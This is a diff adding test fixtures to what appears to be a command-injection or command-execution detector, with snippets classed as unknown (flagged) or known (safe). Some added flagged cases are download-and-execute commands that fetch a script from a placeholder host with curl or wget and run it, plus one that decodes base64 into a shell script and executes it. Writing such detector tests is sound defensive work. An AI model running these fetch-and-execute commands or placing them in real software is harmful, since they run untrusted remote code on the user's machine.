@@ -54,6 +54,11 @@ const UNKNOWN: Readonly<Record<string, readonly string[]>> = {
     "def f():\n    c = 'git'\n    c += p\n    subprocess.run(c)",
   ],
   "a.ts": [
+    "import * as exec from '@actions/exec';\nexec.getExecOutput('bash', ['-c', 'echo aa | base64 -d > /tmp/r.sh && bash /tmp/r.sh']);",
+    "import { exec } from '@actions/exec';\nexec(tool, ['status']);",
+    "import spawn from '@npmcli/promise-spawn';\nspawn(tool);",
+    `${NODE}exec('curl -o r.sh https://x.example/r.sh; chmod +x r.sh');`,
+    `${NODE}exec('wget -O - https://x.example/r.sh > r.sh && ./r.sh');`,
     `${NODE}spawn(p, []);`,
     `${NODE}exec(\`rm \${p}\`);`,
     `${NODE}spawn('git', [p], { shell: true });`,
@@ -191,6 +196,8 @@ const KNOWN: Readonly<Record<string, readonly string[]>> = {
     "x: subprocess.Popen[bytes] = f(subprocess.PIPE, os.environ)",
   ],
   "a.ts": [
+    "import { exec } from '@actions/exec';\nexec('git', ['status']);",
+    `${NODE}exec('curl -o a.json https://x.example/a.json && cat a.json');`,
     `${NODE}spawn('git', ['show', p]); exec('ls'); execFile('git', [p]);`,
     `${NODE}/a/.exec(p); pattern.exec(p); pool.spawn(p);`,
     `${NODE}const npm = process.platform === 'win32' ? 'npm.cmd' : 'npm'; spawn(npm, [p]);`,
